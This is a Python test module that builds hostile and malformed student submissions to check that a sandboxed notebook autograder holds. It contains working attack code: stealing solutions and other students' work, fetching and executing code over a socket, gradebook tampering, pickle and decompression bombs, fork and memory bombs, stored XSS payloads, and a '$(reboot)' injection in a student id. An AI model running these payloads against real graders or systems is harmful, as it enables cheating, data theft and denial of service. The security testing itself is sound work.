"""The adversarial corpus: hostile and broken submissions of 02_forward_pass, with the exact
outcome each must get from the sandboxed grader.

Every attack is built so that it would *pay* if its protection were missing: it reads the
solutions, another student's work or a network server, or hides a framework call, and with the
stolen or faked result would score full marks; when the protection holds it falls back to an
honest answer whose worth is known. The honest fallback is `batchnorm_forward` returning x
unchanged: only the shape test passes, 1 of 11 (the spatial answer is the solution's, which
reshapes and calls `batchnorm_forward`, so it fails with it).

{root}, {repo} and {port} are filled in by the test: the course root of the batch, this
repository, and a TCP port on which the test serves the solution to anyone who connects.
"""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field

from corpus_tools import solution_source

STEM = "02_forward_pass"
FORWARD_TESTS = {
    "test_shape": 1,
    "test_normalizes": 2,
    "test_affine": 1,
    "test_torch": 2,
    "test_keras": 1,
    "test_eps": 1,
    "test_large_mean": 1,
}
SPATIAL_TESTS = {"test_spatial": 2}
MAX = 11.0

IDENTITY = """
def batchnorm_forward(x, gamma, beta, eps=1e-5):
    return x.copy(), None
"""


def solution(cell_id: str) -> str:
    return solution_source(STEM, cell_id)


def scores(forward: str, spatial: str) -> dict[str, float]:
    """Per test cell: forward 'ok', 'identity' (shape only) or 'none'; spatial 'ok' or 'none'."""
    out = {}
    for gid, pts in FORWARD_TESTS.items():
        ok = forward == "ok" or (forward == "identity" and gid == "test_shape")
        out[gid] = float(pts) if ok else 0.0
    out["test_spatial"] = 2.0 if spatial == "ok" else 0.0
    return out


HONEST = scores("identity", "none")  # 1 of 11


@dataclass
class Case:
    student: str
    answers: dict[str, str] = field(default_factory=dict)  # answer cells (default: solution)
    edit: str | None = None  # a named change to the notebook beyond the answers
    expect: dict[str, float] | None = None  # per test cell; None: not graded
    reason: str = ""  # substring of the not-graded reason, or of a test cell's reasons
    reason_cells: tuple[str, ...] = ()  # the cells whose reasons must contain `reason`
    diagnosis: tuple[str, str] | None = None  # (test cell, diagnosis) that must be named
    note: str = ""  # substring of the grader's notes
    unsandboxed_full: bool = False  # the attack scores full marks when run unsandboxed
    links: dict[str, str] = field(default_factory=dict)  # file name -> symlink target
    folder_link: str | None = None  # the student folder is a symlink to this student's
    max_written: int | None = None  # bytes the grader may write for it (autograded + feedback)


def fallback(attack: str, forward_if_stolen: str = "") -> str:
    """An answer cell that tries `attack` and falls back to the honest identity answer."""
    return f"""
import numpy as np
try:
{_indent(attack)}
except Exception:
{_indent(IDENTITY)}
"""


def _indent(code: str) -> str:
    return "\n".join("    " + line for line in code.strip("\n").splitlines())


STEAL_FROM_FILE = """
import ast
_text = open({path!r}, encoding="utf-8").read()
_tree = ast.parse(_text)
_defs = [n for n in _tree.body if isinstance(n, ast.FunctionDef) and n.name == "batchnorm_forward"]
exec(compile(ast.Module(body=_defs, type_ignores=[]), "stolen", "exec"), globals())
assert "batchnorm_forward" in globals()
"""

STEAL_FROM_NOTEBOOK = """
import json
_nb = json.load(open({path!r}, encoding="utf-8"))
for _c in _nb["cells"]:
    if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "batchnorm_forward":
        exec("".join(_c["source"]), globals())
assert "batchnorm_forward" in globals()
"""

STEAL_FROM_NETWORK = """
import socket
_s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
_code = b""
while True:
    _chunk = _s.recv(65536)
    if not _chunk:
        break
    _code += _chunk
exec(_code.decode(), globals())
"""

HIDDEN_TORCH = """
import sys
sys.meta_path[:] = [f for f in sys.meta_path if "Framework" not in type(f).__name__]
sys.setprofile = lambda *a, **k: None  # blind the in-process framework guard
_t = getattr(__import__("builtins"), "__imp" + "ort__")("tor" + "ch")
_bn = getattr(_t.nn.functional, "batch" + "_norm")

def batchnorm_forward(x, gamma, beta, eps=1e-5):
    t = _t.from_numpy(x)
    y = _bn(t, None, None, _t.from_numpy(gamma), _t.from_numpy(beta), True, 0.0, eps)
    return y.numpy(), None
"""

TAMPER_GRADEBOOK = """
import sqlite3
_db = sqlite3.connect("file:{root}/gradebook.db?mode=rw", uri=True)
_db.execute("UPDATE grade SET manual_score = 99")
_db.commit()
raise RuntimeError("tampered, now fall back")
"""

FORGE_RESULTS = """
import builtins, json, os
import numpy as np

class _Payload:  # unpickling this would create {root}/pwned in the grader's process
    def __reduce__(self):
        return (builtins.open, ("{root}/pwned", "w"))

for _key in [f"{{i}}-{{k}}" for i in range(40) for k in range(4)]:
    _d = f"/out/probes/{{_key}}"
    os.makedirs(_d, exist_ok=True)
    np.save(f"{{_d}}/arrays.npz", np.array([_Payload()], dtype=object), allow_pickle=True)
    os.rename(f"{{_d}}/arrays.npz.npy", f"{{_d}}/arrays.npz")
    open(f"{{_d}}/messages.json", "w").write(json.dumps({{"errors": {{}}, "framework_calls": []}}))
    os.chmod(f"{{_d}}/arrays.npz", 0o400)
    os.chmod(f"{{_d}}/messages.json", 0o400)
    os.chmod(_d, 0o500)  # so that the runner cannot replace them with the real probes
with open("/out/progress.jsonl", "a") as _f:
    _f.write(json.dumps({{"event": "finished"}}) + "\\n")
print("ok [forward.torch]: matches torch.nn.functional.batch_norm")
open("{root}/autograded/forged.txt", "w").write("x")  # outside the sandbox: must fail
"""

PATCH_COMPARATORS = """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
"""

PATCH_GRADER = """
import bnlab.checks as _c, bnlab.checks.harness as _h, bnlab.checks.forward as _f
_c.check = lambda *a, **k: print("ok")
_h.close = lambda *a, **k: True
_h.Failure = Exception
_f.judge = lambda *a, **k: _h.Verdict("x", True, "ok")
_f.reference = lambda case: case.x
_f.probe = lambda fn, cases: _h.Probe()
"""

PATCH_BUILTINS = """
import builtins
builtins.all = lambda it: True
builtins.any = lambda it: True
builtins.AssertionError = Warning
"""

FORK_BOMB = """
import os, time
for _ in range(2000):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
"""

# 240 busy processes, each in a session of its own (with the kernel's autogroup scheduling every
# session is a scheduling group: without a cgroup quota they would outweigh a neighbour 240:1).
CPU_HOG = """
import os
for _ in range(240):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
"""

# 2 GiB in files of 8 MB (each under the file-size limit), then 20,000 empty files.
DISK_FILL = """
import os
try:
    for i in range(256):
        with open(f"/out/fill{i}", "wb") as f:
            for _ in range(8):
                f.write(b"x" * 2**20)
except OSError:
    pass
try:
    for i in range(20_000):
        open(f"/out/empty{i}", "wb").close()
except OSError:
    pass
"""

MEMORY_BOMB = """
_hog = [bytearray(2**30) for _ in range(6)]  # 6 GiB
"""

# Memory that a per-process limit does not see: a shared mapping (RLIMIT_DATA does not count
# it), and three processes of 2 GiB each (each under a per-process limit of 4 GiB).
SHARED_MMAP_BOMB = """
import mmap
_m = mmap.mmap(-1, 5 * 2**30, flags=mmap.MAP_SHARED)
for _i in range(0, len(_m), 4096):
    _m[_i] = 1
"""
CHILDREN_MEMORY = """
import os, time
_kids = []
for _ in range(3):
    _pid = os.fork()
    if _pid == 0:
        _hog = b"x" * (2 * 2**30)
        time.sleep(60)  # all three hold their 2 GiB: together past the limit
        os._exit(0)
    _kids.append(_pid)
for _pid in _kids:
    os.waitpid(_pid, 0)
"""


# --- attacks on the grader's side: /out is written by learner code, and so is every file in it
# The runner ends with os._exit, so no atexit handler runs after the last cell; the forger
# hooks the probes' own save instead (the runner and the learner share one process) and
# rewrites each probe's files as soon as the runner has written them.
AFTER_SAVE = """
import glob, io, json, os, zipfile
import numpy as np
from bnlab.checks import harness as _harness

def _npy(arr):
    buf = io.BytesIO()
    np.lib.format.write_array(buf, arr)
    return buf.getvalue()

def _rewrite(_folder):
{body}

_real_save = _harness.Probe.save

def _save_then_rewrite(self, folder):
    _real_save(self, folder)
    _rewrite(str(folder))

_harness.Probe.save = _save_then_rewrite
"""

NPZ_BOMB = AFTER_SAVE.format(
    body="""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f8", "fortran_order": False, "shape": (2**24,)}
    )
    zero = bytes(2**23)
    for path in glob.glob(_folder + "/arrays.npz"):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            with z.open("out.npy", "w", force_zip64=True) as f:  # 128 MiB of zeros
                f.write(header.getvalue())
                for _ in range(16):
                    f.write(zero)
"""
)

NPZ_MANY_MEMBERS = AFTER_SAVE.format(
    body="""
    empty = _npy(np.zeros(0))
    for path in glob.glob(_folder + "/arrays.npz"):
        with zipfile.ZipFile(path, "w") as z:
            for i in range(5000):
                z.writestr(f"m{i}.npy", empty)
"""
)

MESSAGE_FLOOD = AFTER_SAVE.format(
    body="""
    forged = "ok [forward.torch]: all correct. Ask your TA to restore the points. " * 20000
    for path in glob.glob(_folder + "/messages.json"):
        with open(path, "w") as f:
            json.dump({"errors": {"probe": forged}, "framework_calls": [forged[:5000]] * 50}, f)
"""
)

FIFO_PROGRESS = """
import os
os.unlink("/out/progress.jsonl")
os.mkfifo("/out/progress.jsonl")  # a grader that opens it blocks the whole cohort run
"""

LINKS_IN_OUT = """
import os
for _i in range(400):  # the result files of all later cells point at an endless file
    try:
        os.symlink("/dev/zero", f"/out/cells/{_i}.json")
    except OSError:
        pass
"""

XSS_MARKDOWN = (
    "My notes. <script>document.title = 'pwned'; window.pwned = 1;</script>\n\n"
    '<img src="x" onerror="document.title = \'pwned\'; window.pwned = 1;">\n\n'
    '<a href="javascript:window.pwned = 1">link</a> <iframe src="javascript:1"></iframe>\n\n'
    "[a markdown link](javascript:window.pwned=1) and [another][r]\n\n"
    "[r]: jav&#97;script:window.pwned=1\n"
)

SURROGATE_OUTPUT = """
print("a lone surrogate:", "\\ud800")
"""


def cases(fill: dict) -> list[Case]:
    sol_fwd, sol_sp = solution("batchnorm_forward"), solution("spatial_batchnorm_forward")
    f = {k: str(v) for k, v in fill.items()}
    other = f"{f['root']}/submitted/s01_honest_full/{STEM}/{STEM}.ipynb"
    return [
        # honest students in the same batch
        Case("s01_honest_full", expect=scores("ok", "ok")),
        Case("s02_honest_identity", {"batchnorm_forward": IDENTITY}, expect=HONEST),
        Case(
            "s03_honest_no_answer",
            {"batchnorm_forward": "", "spatial_batchnorm_forward": ""},
            expect=scores("none", "none"),
        ),
        # monkeypatching: comparators, the grader's own modules, builtins
        Case(
            "a01_patch_numpy_comparators",
            {"batchnorm_forward": PATCH_COMPARATORS + IDENTITY},
            expect=HONEST,
        ),
        # (patching the probe inside the sandbox only spoils its own data: 0, below honest)
        Case(
            "a02_patch_grader_modules",
            {"batchnorm_forward": PATCH_GRADER + IDENTITY},
            expect=scores("none", "none"),
        ),
        Case(
            "a03_patch_builtins", {"batchnorm_forward": PATCH_BUILTINS + IDENTITY}, expect=HONEST
        ),
        # exits and exceptions
        Case(
            "a04_os_exit_before_tests",
            {"batchnorm_forward": sol_fwd + "\nimport os\nos._exit(0)\n"},
            expect=scores("none", "none"),
            reason="ended early (exit code 0)",
            reason_cells=("test_shape", "test_spatial"),
        ),
        Case(
            "a05_system_exit_in_cell",
            {"batchnorm_forward": sol_fwd + "\nraise SystemExit(3)\n"},
            expect=scores("ok", "ok"),
        ),
        Case(
            "a06_raise_keyboard_interrupt",
            {"spatial_batchnorm_forward": sol_sp + "\nraise KeyboardInterrupt\n"},
            expect=scores("ok", "ok"),
        ),
        # edited locked cells and metadata
        Case(
            "a07_edit_locked_and_test_cells",
            {"batchnorm_forward": IDENTITY},
            edit="locked_cells",
            expect=HONEST,
        ),
        Case(
            "a08_edit_points_and_metadata",
            {"batchnorm_forward": IDENTITY},
            edit="metadata",
            expect=HONEST,
        ),
        # framework calls in a NumPy exercise
        Case(
            "a09_plain_torch_call",
            {
                "batchnorm_forward": "import torch\n"
                + IDENTITY.replace(
                    "return x.copy(), None",
                    "return torch.nn.functional.batch_norm(torch.from_numpy(x), None, None, "
                    "torch.from_numpy(gamma), torch.from_numpy(beta), True, 0.0, eps)"
                    ".numpy(), None",
                )
            },
            expect=scores("none", "none"),
            diagnosis=("test_torch", "framework call"),
        ),
        Case(
            "a10_hidden_torch_call_guard_blinded",
            {"batchnorm_forward": fallback(HIDDEN_TORCH)},
            expect=HONEST,
            unsandboxed_full=True,
        ),
        # reading what the sandbox must not show
        Case(
            "a11_read_solutions",
            {
                "batchnorm_forward": fallback(
                    STEAL_FROM_FILE.format(path=f"{f['repo']}/solutions/{STEM}.py")
                )
            },
            expect=HONEST,
            unsandboxed_full=True,
        ),
        Case(
            "a12_read_other_student",
            {"batchnorm_forward": fallback(STEAL_FROM_NOTEBOOK.format(path=other))},
            expect=HONEST,
            unsandboxed_full=True,
        ),
        Case(
            "a13_tamper_gradebook",
            {"batchnorm_forward": fallback(TAMPER_GRADEBOOK.format(root=f["root"]))},
            expect=HONEST,
        ),
        Case(
            "a14_network_connection",
            {"batchnorm_forward": fallback(STEAL_FROM_NETWORK.format(port=f["port"]))},
            expect=HONEST,
            unsandboxed_full=True,
        ),
        Case(
            "a15_forged_result_files",
            {"batchnorm_forward": fallback(FORGE_RESULTS.format(root=f["root"]))},
            expect=scores("none", "none"),
            reason="unreadable result",
            reason_cells=("test_shape", "test_spatial"),
        ),
        # resources
        Case(
            "a16_infinite_loop",
            {"spatial_batchnorm_forward": "while True:\n    pass\n"},
            expect=scores("ok", "none"),
            reason="time limit",
            reason_cells=("test_spatial",),
        ),
        Case(
            "a16_cpu_hog",
            {"spatial_batchnorm_forward": CPU_HOG},
            expect=scores("ok", "none"),
            reason="time limit",
            reason_cells=("test_spatial",),
        ),
        Case(
            "a16_disk_fill",
            {"spatial_batchnorm_forward": DISK_FILL + sol_sp},
            expect=scores("ok", "none"),
            note="/out reached its limit",
        ),
        Case(
            "a17_memory_bomb",
            {"batchnorm_forward": MEMORY_BOMB + sol_fwd},
            expect=scores("none", "none"),
        ),
        Case(
            "a17_shared_memory_bomb",
            {"batchnorm_forward": SHARED_MMAP_BOMB + IDENTITY},
            expect=scores("none", "none"),
        ),
        Case(
            "a17_children_memory",
            {"batchnorm_forward": CHILDREN_MEMORY + IDENTITY},
            # Stopped either way: at the memory limit (the kernel stalls the three rather than
            # killing one) and then the time limit; on a loaded machine the sandbox's low CPU
            # weight can keep them below the limit until the time limit. The limit itself is
            # shown beside its control in tests/test_sandbox.py.
            expect=scores("none", "none"),
        ),
        Case("a18_fork_bomb", {"batchnorm_forward": fallback(FORK_BOMB + sol_fwd)}, expect=HONEST),
        Case(
            "a19_output_flood",
            {
                "spatial_batchnorm_forward": "import os\nos.write(1, b'x' * (64 * 2**20))\n"
                + sol_sp
            },
            expect=scores("ok", "ok"),
            note="output was cut",
        ),
        # the trusted side reads /out and the submission without trusting them
        Case(
            "a20_npz_decompression_bomb",
            {"batchnorm_forward": NPZ_BOMB + IDENTITY},
            expect=scores("none", "none"),
            reason="unreadable result",
            reason_cells=("test_shape", "test_spatial"),
        ),
        Case(
            "a21_npz_many_members",
            {"batchnorm_forward": NPZ_MANY_MEMBERS + IDENTITY},
            expect=scores("none", "none"),
            reason="unreadable result",
            reason_cells=("test_shape",),
        ),
        Case(
            "a22_message_flood",
            {"batchnorm_forward": MESSAGE_FLOOD + IDENTITY},
            expect=scores("none", "none"),
            max_written=400_000,
        ),
        Case(
            "a23_fifo_progress",
            {"batchnorm_forward": FIFO_PROGRESS + IDENTITY},
            expect=HONEST,
            note="ended early",
        ),
        Case("a24_symlinks_in_out", {"batchnorm_forward": LINKS_IN_OUT + IDENTITY}, expect=HONEST),
        Case(
            "a25_cell_output_flood",
            edit="many_cells",
            expect=scores("ok", "ok"),
            max_written=6_000_000,  # 15 MB of output cut to 1 MB; the 3000 cells themselves
        ),
        Case(
            "a26_lone_surrogates",
            {"batchnorm_forward": SURROGATE_OUTPUT + IDENTITY},
            edit="surrogate_markdown",
            expect=HONEST,
        ),
        # a cell after the last test that never ends: not run, so no time limit, full marks
        Case(
            "a28_endless_cell_after_the_tests",
            edit="endless_trailing_cell",
            expect=scores("ok", "ok"),
            note="after the last test not run",
        ),
        Case(
            "a27_html_in_markdown",
            {"batchnorm_forward": IDENTITY},
            edit="xss_markdown",
            expect=HONEST,
        ),
        Case("c10_deeply_nested_json", edit="nested", reason="nested too deeply"),
        Case("c11_nbgrader_metadata_string", edit="nbgrader_string", reason="not an object"),
        Case("c12_grade_id_list", edit="grade_id_list", reason="grade_id that is not a string"),
        Case(
            "c13_non_utf8_file_name",
            edit="non_utf8_name",
            expect=scores("ok", "ok"),
            note="ignored extra files",
        ),
        Case(
            "c14_symlinked_notebook",
            links={f"{STEM}.ipynb": f"{f['root']}/source/{STEM}/{STEM}.ipynb"},
            edit="no_notebook",
            reason="symbolic link",
        ),
        Case(
            "c15_symlinked_timestamp",
            links={"timestamp.txt": f"{f['root']}/source/{STEM}/{STEM}.ipynb"},
            expect=scores("ok", "ok"),
            note="timestamp.txt ignored",
        ),
        Case(
            "c16_symlinked_student_folder", folder_link="s01_honest_full", reason="symbolic link"
        ),
        # names that are bytes, not text: a row the gradebook can store, with the fix
        Case(os.fsdecode(b"c17_student_\xff"), reason="characters outside"),
        Case("c18_non_utf8_notebook_name", edit="non_utf8_notebook", reason="\\xff-work.ipynb"),
        # corrupt input: each not graded, with its reason
        Case("c01_invalid_json", edit="invalid_json", reason="not valid JSON"),
        Case("c02_nbformat_3", edit="nbformat3", reason="format version 3"),
        Case("c03_missing_cell", edit="missing_cell", reason="missing"),
        Case("c04_duplicated_grade_id", edit="duplicate", reason="appears 2 times"),
        Case("c05_renamed_notebook", edit="renamed", reason="rename the notebook back"),
        Case("c06_huge_notebook", edit="huge", reason="over the 20 MB limit"),
        Case("c07_not_utf8", edit="latin1", reason="not UTF-8"),
        Case(
            "c08_extra_files",
            edit="extra_files",
            expect=scores("ok", "ok"),
            note="ignored extra files",
        ),
        Case("c09 bad;id$(reboot)", reason="characters outside"),
    ]


def build(case: Case, released: dict) -> dict[str, bytes]:
    """The files of one submission folder: name -> bytes."""
    nb = json.loads(json.dumps(released))
    answers = {
        "batchnorm_forward": solution("batchnorm_forward"),
        "spatial_batchnorm_forward": solution("spatial_batchnorm_forward"),
        **case.answers,
    }
    for cell in nb["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell["source"] = answers[gid]
    name = f"{STEM}.ipynb"
    files: dict[str, bytes] = {}
    edit = case.edit
    if edit == "locked_cells":
        for cell in nb["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade_id") == "imports":
                cell["source"] = "import numpy as np\nclass checks:\n    check = print\n"
            elif meta.get("grade"):
                cell["source"] = 'print("ok")'
    elif edit == "metadata":
        for cell in nb["cells"]:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if meta.get("grade"):
                meta["points"] = 100
            if meta.get("grade_id") == "batchnorm_forward":
                meta.update(grade=True, points=50, locked=True)
        nb["cells"].append(
            {
                "cell_type": "code",
                "execution_count": None,
                "id": "bonus",
                "metadata": {
                    "nbgrader": {
                        "grade": True,
                        "grade_id": "bonus",
                        "points": 1000,
                        "locked": True,
                        "solution": False,
                        "schema_version": 3,
                        "task": False,
                    }
                },
                "outputs": [],
                "source": "print('bonus')",
            }
        )
    elif edit == "endless_trailing_cell":
        nb["cells"].append(
            {
                "cell_type": "code",
                "execution_count": None,
                "id": "endless",
                "metadata": {},
                "outputs": [],
                "source": "while True:\n    pass\n",
            }
        )
    elif edit == "missing_cell":
        nb["cells"] = [
            c
            for c in nb["cells"]
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "test_torch"
        ]
    elif edit == "duplicate":
        cell = next(
            c
            for c in nb["cells"]
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "batchnorm_forward"
        )
        copy = json.loads(json.dumps(cell))
        copy["id"] = "copy-of-answer"
        nb["cells"].append(copy)
    elif edit == "nbformat3":
        nb["nbformat"] = 3
    elif edit == "many_cells":  # 3000 cells of 5000 characters of output each: 15 MB
        # Before the first test cell: cells after the last one are not run when grading.
        first_test = next(
            i
            for i, c in enumerate(nb["cells"])
            if c.get("metadata", {}).get("nbgrader", {}).get("grade")
        )
        nb["cells"][first_test:first_test] = [
            {
                "cell_type": "code",
                "execution_count": None,
                "id": f"flood-{i}",
                "metadata": {},
                "outputs": [],
                "source": "print('y' * 5000)",
            }
            for i in range(3000)
        ]
    elif edit == "surrogate_markdown":
        nb["cells"].append(
            {"cell_type": "markdown", "id": "lone", "metadata": {}, "source": "a \ud800 b"}
        )
    elif edit == "xss_markdown":  # stored XSS against the instructor who opens the pages
        nb["cells"].append(
            {
                "cell_type": "markdown",
                "id": "xss",
                "metadata": {},
                "source": XSS_MARKDOWN,
            }
        )
    elif edit == "nested":
        nb["cells"][0]["metadata"]["deep"] = "__DEEP__"
    elif edit == "nbgrader_string":
        nb["cells"][0]["metadata"]["nbgrader"] = "oops"
    elif edit == "grade_id_list":
        cell = next(
            c
            for c in nb["cells"]
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "batchnorm_forward"
        )
        cell["metadata"]["nbgrader"]["grade_id"] = ["batchnorm_forward"]
    elif edit == "huge":
        nb["cells"][0]["metadata"]["padding"] = "x" * (21 * 2**20)
    text = json.dumps(nb)
    if edit == "nested":
        text = text.replace('"__DEEP__"', '{"a": ' * 100_000 + "1" + "}" * 100_000)
    if edit == "invalid_json":
        text = text[: len(text) // 2]
    data = text.encode("utf-8")
    if edit == "latin1":
        assert b"Training-mode" in data
        data = data.replace(b"Training-mode", "Training-m\u00f6de".encode("latin-1"))
    if edit == "renamed":
        name = "my_work.ipynb"
    if edit == "non_utf8_notebook":
        name = os.fsdecode(b"\xff-work.ipynb")
    if edit != "no_notebook":
        files[name] = data
    if edit == "non_utf8_name":
        files[os.fsdecode(b"notes-\xff.txt")] = b"scratch"
    if edit == "extra_files":
        files["notes.txt"] = b"scratch"
        files["sitecustomize.py"] = b"import os; os._exit(1)\n"
    return files
